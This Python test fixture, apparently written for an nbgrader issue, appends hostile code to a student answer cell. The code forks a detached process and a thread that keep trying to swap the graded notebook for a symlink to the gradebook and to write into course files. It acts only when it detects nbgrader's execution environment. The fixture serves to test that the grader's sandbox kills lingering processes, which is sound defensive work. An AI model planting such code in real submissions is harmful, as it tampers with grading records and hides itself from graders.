# Hostile fixture (issue 19, nbgrader): appended to an otherwise correct answer cell. The kernel
# leaves a detached process (new session, its own marker in its command line) and a thread that
# keep trying, for a minute after the cell, to replace the graded notebook with a link to the
# gradebook, append to the course's log and write a file beside the course's gradebook — after
# nbgrader has checked and written the notebook. It does so only in nbgrader's kernel
# (NBGRADER_EXECUTION is set there), so the course's grader, which would dock it, never sees it.
# Expected: everything the kernel started dies with it: no process with the marker is left after
# nbgrader returns; the course and the graded notebook are as nbgrader wrote them; full points.
import os
import sys
import threading

_course = os.path.abspath(os.path.join("..", "..", ".."))
_notebook = os.path.abspath(next((n for n in os.listdir(".") if n.endswith(".ipynb")), "absent"))
_LOOP = f"""
import os, time
for _ in range(300):
    time.sleep(0.2)
    for call in (
        lambda: os.replace(os.path.join({_course!r}, "late-link"), {_notebook!r}),
        lambda: os.symlink(os.path.join({_course!r}, "gradebook.db"),
                           os.path.join({_course!r}, "late-link")),
        lambda: open(os.path.join({_course!r}, ".nbgrader.log"), "a").write("late\\n"),
        lambda: open(os.path.join({_course!r}, "late.txt"), "w").write("late\\n"),
    ):
        try:
            call()
        except OSError:
            pass
"""


def _late():
    for _ in range(300):
        threading.Event().wait(0.2)
        try:
            os.symlink(os.path.join(_course, "gradebook.db"), os.path.join(_course, "late-link"))
            os.replace(os.path.join(_course, "late-link"), _notebook)
        except OSError:
            pass


if os.environ.get("NBGRADER_EXECUTION"):
    if os.fork() == 0:  # a detached child, in a session of its own
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", _LOOP, "convlab-lingering-writer"])
    print("lingering process started")
    threading.Thread(target=_late, daemon=True).start()
